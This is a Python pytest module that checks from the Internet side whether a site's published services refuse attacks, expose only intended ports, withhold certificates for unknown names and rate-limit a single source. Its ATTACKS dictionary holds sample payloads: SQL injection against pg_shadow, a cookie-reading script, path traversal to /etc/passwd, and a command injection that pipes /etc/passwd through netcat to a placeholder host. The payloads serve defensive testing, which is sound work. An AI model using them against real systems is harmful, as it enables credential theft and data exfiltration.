"""NET, WAN: what is published, looked at from the Internet."""

import datetime as dt
import json
from collections import Counter
from collections.abc import Callable, Iterable

import pytest
from asking import Question, TlsAnswer, ask, get, post
from harness import CouldNotCheck, Machine, NotApplicable, Seen, World, listed, program
from probing import Place, Places, tcp
from publications import public_addresses, published_addresses, published_services

from infra.plan import Host, ProbePoint, Site
from infra.plan.service_types import Published

ATTACKS = {
    "SQL injection": "/health?q=1%27%20UNION%20SELECT%20usename,passwd%20FROM%20pg_shadow--",
    "script in a page": "/health?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "another file": "/health?q=../../../../etc/passwd",
    "a command": "/health?q=1;cat%20/etc/passwd%7Cnc%20192.0.2.1%2080",
}
HARMLESS = "/health"
REFUSED, TOO_MANY = 403, 429
MANY = 150
"""Requests of one source at once, over each connection."""
MOST_PER_SECOND = 50
"""Who asks faster for a while is no person; whether that is refused can be seen above it only."""
OTHER_PORTS = (22, 80, 5432, 6432, 8000, 8080, 8432, 8443, 8444, 8445, 8446)
PKI = "/etc/province/pki"
NamedMachine = Callable[[str], Machine]


def citizen(world: World) -> ProbePoint:
    """The probe point on the Internet side.

    Raises:
        CouldNotCheck: there is none.
    """
    internet = {n.name for n in world.plan.backbone.networks if n.kind == "internet"}
    for point in world.plan.backbone.probe_points:
        if {link.network for link in point.links} <= internet:
            return point
    raise CouldNotCheck("there is no probe point on the Internet side; declare one")


def publications_of(site: Site, world: World) -> list[Published]:
    """What the hosts of a site publish.

    Raises:
        NotApplicable: nothing.
    """
    own = {host.name for host in site.hosts}
    found = [one.published for one in published_services(world.plan) if one.published]
    chosen = [one for one in found if one.host in own]
    if not chosen:
        raise NotApplicable(f"site {site.code}: publishes nothing")
    return chosen


def met_at(one: Published, world: World) -> tuple[str, ...]:
    """The public addresses, both families."""
    addresses = public_addresses(one.host, one.port, world.plan)
    assert {":" in address for address in addresses} == {False, True}, (
        f"{one.name}: is met at {listed(addresses)}; both families are required"
    )
    return addresses


def questions(
    one: Published, world: World, named_machine: NamedMachine, requests: Iterable[bytes]
) -> list[Question]:
    """Requests to a published service, each by both families."""
    root = named_machine(one.host).ask("cat", f"{PKI}/root.pem")
    sent = tuple(requests)
    return [
        Question(address, one.port, one.name, root, request)
        for address in met_at(one, world)
        for request in sent
    ]


def require_harmless(answers: Iterable[TlsAnswer], seen: Seen) -> None:
    """What must be answered is: only then a refusal means something."""
    for answer in answers:
        seen(f"control: {answer}")
        if answer.status != 200:
            raise CouldNotCheck(f"{answer}; a harmless request must be answered with 200")


@pytest.mark.control("NET-14")
def test_known_attacks_are_refused(
    site: Site, world: World, places: Places, named_machine: NamedMachine, seen: Seen
) -> None:
    for one in publications_of(site, world):
        paths = {"harmless": HARMLESS, **ATTACKS}
        asked = questions(one, world, named_machine, (get(one.name, p) for p in paths.values()))
        answers = ask(places.at(citizen(world).name), asked)
        require_harmless(answers[:: len(paths)], seen)
        for place, answer in enumerate(answers):
            kind = list(paths)[place % len(paths)]
            if kind == "harmless":
                continue
            seen(f"{kind}: {answer}")
            assert answer.status == REFUSED, (
                f"{answer} to {kind}; the rule set must refuse with {REFUSED}"
            )


@pytest.mark.control("NET-14")
def test_applications_are_reached_through_the_rule_set_only(
    site: Site, world: World, places: Places, seen: Seen
) -> None:
    """Whoever publishes reaches the applications; from the Internet and beside it nobody does."""
    outside = {one.name: one for one in publications_of(site, world)}
    for service in published_services(world.plan):
        published = service.published
        if published is None or published.name not in outside:
            continue
        where = [
            tcp(address, port)
            for name in service.hosts
            for address in world.plan.host(name).primary.addresses.both()
            for port in service.ports
        ]
        for answer in places.at(published.host).probe(*where):
            seen(answer)
            assert answer.answered, f"{answer}; {published.host} publishes it"
        own = world.plan.host(published.host).primary.network
        beside = [p.name for p in site.probe_points if {k.network for k in p.links} == {own}]

        def look(place: Place, note: Seen, where: list = where) -> None:  # type: ignore[type-arg]
            for answer in place.probe_beyond_gateways(note, where):
                assert not answer.answered, f"{answer}; only the rule set may be in between"

        places.each([citizen(world).name, *beside], look, seen)


@pytest.mark.control("NET-14")
def test_other_names_get_no_certificate(
    site: Site, world: World, places: Places, named_machine: NamedMachine, seen: Seen
) -> None:
    for one in publications_of(site, world):
        known = questions(one, world, named_machine, [get(one.name, HARMLESS)])
        other = f"unknown.{world.plan.domain}"
        strange = [
            Question(q.address, q.port, name, "", get(other, HARMLESS))
            for q in known
            for name in (other, "")
        ]
        answers = ask(places.at(citizen(world).name), [*known, *strange])
        require_harmless(answers[: len(known)], seen)
        for answer in answers[len(known) :]:
            seen(f"asked for {answer.question.name or 'no name'}: {answer}")
            assert answer.answer == "refused", (
                f"{answer}; whoever asks for {answer.question.name or 'no name'} learns nothing"
            )


@pytest.mark.control("NET-05")
def test_internet_meets_what_is_published_only(
    site: Site, world: World, places: Places, seen: Seen
) -> None:
    """Other ports of the public addresses, and of the hosts behind them."""
    published = publications_of(site, world)
    open_ = {(address, one.port) for one in published for address in met_at(one, world)}
    behind = {address for address, _ in published_addresses(world.plan)}
    where = sorted({address for address, _ in open_} | behind)
    closed = [
        tcp(address, port)
        for address in where
        for port in OTHER_PORTS
        if (address, port) not in open_
    ]
    place = places.at(citizen(world).name)
    controls = [tcp(address, port) for address, port in sorted(open_)]

    for answer in place.probe_with_control(seen, controls, closed):
        assert not answer.answered, f"{answer}; the Internet meets what is published, no more"


@pytest.mark.control("NET-09")
def test_one_source_is_limited_and_no_other(
    target: Host, world: World, places: Places, named_machine: NamedMachine, seen: Seen
) -> None:
    """One family asks too much; the other, which is another source, is answered meanwhile."""
    for service in published_services(world.plan, target.name):
        one = service.published
        assert one is not None, f"{service.name}: is not published"
        first, second = met_at(one, world)[:2]
        nothing = get(one.name, "/nothing").replace(b"Connection: close\r\n", b"")
        wanted = {
            "address": first,
            "other": second,
            "port": one.port,
            "name": one.name,
            "trusted": named_machine(target.name).ask("cat", f"{PKI}/root.pem"),
            "request": nothing.hex(),
            "times": MANY,
        }
        run = places.at(citizen(world).name).run
        found = json.loads(run(["python3", "-c", program("many_requests"), json.dumps(wanted)]))
        counts = Counter(found["statuses"])
        rate = counts.total() / found["seconds"]
        seen(f"requests of one source, {rate:.0f} in a second: {dict(counts)}")
        seen(f"another source meanwhile: {found['other']}, the same one later: {found['later']}")
        if set(counts) <= {TOO_MANY} or not counts:
            raise CouldNotCheck(f"{one.name}: no request of the source was answered: {counts}")
        if not counts[TOO_MANY] and rate < MOST_PER_SECOND:
            raise CouldNotCheck(f"{one.name}: was asked {rate:.0f} times in a second, too slowly")
        assert counts[TOO_MANY] > 0, f"{one.name}: answers {rate:.0f} requests a second of a source"
        for name, why in {"other": "another source", "later": "the same one later"}.items():
            assert len(found[name]) == 1, f"{one.name}: gives {why} no answer"
            assert TOO_MANY not in found[name], f"{one.name}: refuses {why} too: {found[name]}"


@pytest.mark.control("NET-09")
def test_half_open_connections_cost_nothing(machine: Machine, seen: Seen) -> None:
    value = machine.ask("sysctl", "--values", "net.ipv4.tcp_syncookies").strip()

    seen(f"net.ipv4.tcp_syncookies = {value}")
    assert value in {"1", "2"}, f"{machine.name}: tcp_syncookies is {value}; it must be on"


@pytest.mark.control("WAN-06")
def test_published_services_answer_both_families(
    target: Host, world: World, places: Places, named_machine: NamedMachine, seen: Seen
) -> None:
    """A record that a citizen stores by one family is read back by the other."""
    services = published_services(world.plan, target.name)
    if not services:
        raise NotApplicable(f"{target.name}: publishes nothing itself")
    place = places.at(citizen(world).name)
    today = dt.datetime.now(dt.UTC).date().isoformat()
    record = {"reference": f"province-check-{today}", "text": "Hồ sơ mẫu của Nguyễn Thị Ánh"}
    for one in (service.published for service in services if service.published):
        stores = questions(one, world, named_machine, [post(one.name, "/records", record)])
        reads = questions(
            one, world, named_machine, [get(one.name, f"/records/{record['reference']}")]
        )
        for answer in ask(place, stores):
            seen(f"stored: {answer}")
            assert answer.status in {200, 201}, f"{answer}; the record must be stored"
        for answer in ask(place, reads):
            seen(f"read back: {answer} {answer.body[:120]}")
            assert answer.json() == record, f"{answer}: {answer.body[:120]}; another record comes"
